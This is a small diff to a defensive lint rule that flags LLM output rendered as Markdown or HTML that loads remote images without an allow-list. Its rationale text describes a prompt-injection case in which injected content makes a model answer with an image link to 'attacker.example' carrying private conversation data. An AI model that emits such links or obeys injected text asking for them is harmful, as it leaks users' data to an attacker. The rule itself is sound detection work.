@@ -10,7 +10,7 @@ import { capitalised, describeSource } from "./taint-names";
 export default defineRule({
   id: "markdown-exfiltration",
   meta: {
-    description: "Report model output rendered as Markdown or HTML that loads the remote images it names (react-markdown, Streamdown, marked, markdown-it, <img src>) with no image URL allow-list",
+    description: "Report model output rendered as Markdown or HTML that loads the remote images it names (react-markdown, Streamdown, marked, markdown-it, an `<img src>`) with no image URL allow-list",
     severity: "error", surveySection: "6.2.6", owaspLlm2026: ["LLM01", "LLM10"], owaspAgentic: ["ASI01"], cwe: ["CWE-201", "CWE-359"], atlas: ["AML.T0077", "AML.T0086"],
     why: "A renderer that loads every image the model writes is a zero-click exfiltration channel: text injected into the model's context (a web page, a document, a tool result) makes it answer with `![](https://attacker.example/log?d=...)` holding the conversation or other private data, and the user's browser sends it as the answer renders.",
   },
